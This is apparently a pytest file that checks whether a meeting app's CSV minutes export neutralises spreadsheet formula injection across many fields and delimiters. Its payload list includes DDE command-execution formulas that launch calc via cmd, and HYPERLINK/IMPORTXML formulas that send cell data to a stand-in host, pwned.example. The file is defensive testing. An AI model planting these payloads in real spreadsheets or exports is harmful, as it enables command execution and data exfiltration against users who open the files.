"""Formulas in what people write: the table one downloads is reopened as spreadsheets read it, and has none."""

from __future__ import annotations

import csv
from io import StringIO
from pathlib import Path

import pytest

from app.documents import sheet
from app.domain.command import COMMANDS, Saying
from app.domain.entities import Action, Group, Idea, Question, Theme
from app.domain.who import Who
from tests.attacks.spreadsheet import cells, formulas, is_formula
from tests.browser.prepared import Prepared
from tests.pages.visitor import Visitor

STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹣", "﹢", "﹫", "⁼", "₌", "⁺", "₊", "⁻", "₋", "﹦")
BEFORE = ("", " ", "\t", "\r", "\n", "\u00a0", "\u3000", "\u200b", "\u2060", "\ufeff", "\u00ad", "'", '"', "a;", "a,",
          "a\t", "a|", 'a";"', 'a","', "a\n", "a\r\n", "a\u2028", "a; ", 'a",', 'a";')  # fmt: skip
FORMULAS = (
    *(f"{before}{start}1+1" for start in STARTS for before in BEFORE),
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://pwned.example/?"&A1,"se")',
    '=IMPORTXML(CONCAT("http://pwned.example/",A1),"//a")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+46 8 123 456 78",
    'DDE("cmd";"/C calc")',
    ";=1+1;",
    ",=1+1,",
    '";=1+1;"',
    '","=1+1","',
)


class Written:
    """Two days, one of them of two sides, in which all that can be written is a formula; their minutes as tables."""

    def __init__(self, folder: Path) -> None:
        self.count = 0
        self.prepared = prepared = Prepared(folder)
        self._next = iter(FORMULAS * 6)
        lead = lambda command, **data: self.play(prepared.fatima, command, **data)  # noqa: E731
        lead(
            "edit_workshop",
            title=self.next(80),
            place=self.next(80),
            recipient=self.next(200),
            becomes=self.next(400),
        )
        collect = prepared.step("collect")
        for step in (collect, prepared.step("vote"), prepared.step("plan"), prepared.step("close")):
            lead(
                "edit_step",
                step=step.id,
                texts={"sv": {"title": self.next(400), "question_understood": self.next(400)}},
            )
        prepared.open()
        phones = [prepared.sits_down(n) for n in range(12)]
        prepared.shows(collect)
        for number, text in enumerate(FORMULAS):
            data = {"step": collect.id, "handle": f"handle{number:016}", "text": text}
            self.write(phones[number % len(phones)], "post_idea", **data)
        lead("gather", step=collect.id)
        lead("reveal_ideas", step=collect.id)
        cluster = prepared.shows(prepared.step("cluster"))
        for text in FORMULAS[::9]:
            lead("add_theme", step=cluster.id, name=text[:24])
        themes = prepared.state.all(Theme)
        for number, idea in enumerate(prepared.state.all(Idea)):
            lead("place_idea", idea=idea.id, theme=themes[number % len(themes)].id)
        groups = prepared.shows(prepared.step("groups"))
        for _ in range(30):
            lead("add_group", step=groups.id, name=self.next(60), purpose=self.next(200))
        prepared.shows(prepared.step("plan"))
        for group in prepared.state.all(Group):
            member = Who("group", groups=frozenset([group.id]))
            self.write(member, "add_action", group=group.id, what=self.next(400))
        for action in prepared.state.all(Action):
            member = Who("group", groups=frozenset([action.group]))
            for field in ("who", "with_whom", "by_when", "first_step", "measure"):
                self.write(member, "edit_action", action=action.id, field=field, was="", now=self.next(400))
        day, follow_up = sorted(prepared.state.all(type(prepared.day)), key=lambda each: each.position)
        lead("end_meeting", meeting=day.id)
        lead("open_meeting", meeting=follow_up.id)
        lead("show_step", step=follow_up.agenda[0])
        for action in prepared.state.all(Action):
            lead("report", action=action.id, status="under_way", note=self.next(400))
        self.meetings = [(prepared.id, day.id), (prepared.id, follow_up.id)]
        self._two_sides(Prepared(folder, "lika_villkor", beside=prepared).open())

    def _two_sides(self, prepared: Prepared) -> None:
        """Questions and replies, with what they say in the meeting's language and without."""
        clients, staff = ([prepared.sits_down(n, side) for n in ns]
                          for side, ns in (("client", range(17)), ("staff", range(17, 34))))  # fmt: skip
        step = prepared.shows(prepared.step("relay"))

        def write(who: Who, command: str, number: int, **data: str) -> None:
            self.count += 1 + number % 2
            if number % 2:
                data |= {"language": "so", "rendering": FORMULAS[-number]}
            told = {"handle": f"{command[0]}{number:021}", "text": FORMULAS[number]}
            prepared.play(who, command, **told, **data, sure=True)

        for number in range(len(FORMULAS)):
            write(clients[number % 17], "ask_question", number, step=step.id)
        prepared.play(prepared.fatima, "lock_step", step=step.id, locked=True)  # no company is waited for
        prepared.play(prepared.fatima, "lock_step", step=step.id, locked=False)
        for question in prepared.state.all(Question):
            prepared.play(prepared.fatima, "relay_question", question=question.id)
        prepared.play(prepared.fatima, "send_over", step=step.id)
        for number, question in enumerate(prepared.state.all(Question)):
            write(staff[number % 17], "post_reply", number, question=question.id)
        prepared.play(prepared.fatima, "gather_replies", step=step.id)
        prepared.play(prepared.fatima, "reveal_replies", step=step.id)
        self.meetings.append((prepared.id, prepared.day.id))

    def next(self, limit: int) -> str:
        while len(text := next(self._next)) > limit:
            pass
        self.count += 1
        return text

    def write(self, who: Who, command: str, **data: str) -> None:
        self.count += command == "post_idea"
        self.play(who, command, **data)

    def play(self, who: Who, command: str, **data) -> None:
        """Whoever is asked whether they are sure (there is a telephone number among the formulas) is."""
        sure = {"sure": True} if issubclass(COMMANDS[command].message, Saying) else {}
        self.prepared.play(who, command, **data, **sure)

    def tables(self) -> list[bytes]:
        """Of all three meetings, in both languages."""
        installation = self.prepared.app.extensions["installation"]
        token = installation.start_session(self.prepared.account, 0, 2**60)
        found = []
        for language in ("sv", "en"):
            visitor = Visitor(self.prepared.app, language)
            visitor.client.set_cookie("session", token)
            for workshop, meeting in self.meetings:
                answer = visitor.opens(f"/w/{workshop}/minutes/{meeting}.csv")
                assert answer.status_code == 200
                found.append(answer.get_data())
        return found


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory):
    written = Written(tmp_path_factory.mktemp("formulas") / "data")
    yield written
    written.prepared.close()


def test_no_cell_is_a_formula_in_any_spreadsheet(written: Written, say):
    tables = written.tables()
    found = {cell for table in tables for cell in formulas(table)}
    assert found == set()
    count = sum(len(cells(table, ";")) for table in tables)
    say(
        f"formulas: {written.count} texts that begin or go on as formulas, {count:,} cells, read"
        " with ; , TAB and | and with quotes unheeded: 0 formula cells"
    )


def test_the_table_is_whole_all_the_same(written: Written):
    """Five cells in every row, and the words are still there behind the sign that makes them text."""
    for table in written.tables():
        text = table.decode("utf-8-sig")
        delimiter = ";" if text.splitlines()[0].count(";") == 4 else ","
        rows = list(csv.reader(StringIO(text, newline=""), delimiter=delimiter))
        assert {len(row) for row in rows} == {5}
        assert any("1+1" in row[4] for row in rows)
    sides = {row[3] for row in csv.reader(StringIO(written.tables()[2].decode("utf-8-sig")), delimiter=";")}
    assert {"Fråga", "Svar", "Som det skrevs"} <= sides


def test_control_a_table_with_the_words_as_they_are_is_caught(written: Written, monkeypatch):
    monkeypatch.setattr(sheet, "harmless", str)
    assert len({cell for table in written.tables() for cell in formulas(table)}) > 100


def test_control_a_table_that_minds_the_first_sign_only_is_caught(written: Written, monkeypatch):
    """Another country's spreadsheet parts the cells in the middle of a text."""
    monkeypatch.setattr(sheet, "harmless", lambda cell: f"'{cell}" if is_formula(str(cell)) else cell)
    assert {cell for table in written.tables() for cell in formulas(table)}


@pytest.mark.parametrize("cell", ["=1", " =1", "\u200b=1", "＝1", "\t-1", "+46", "@SUM(A1)"])
def test_what_a_formula_is(cell: str):
    assert is_formula(cell)


@pytest.mark.parametrize("cell", ["", "3", "'=1", "a=1", "a - b", "0701-23 45 67", "– ja"])
def test_what_none_is(cell: str):
    assert not is_formula(cell)
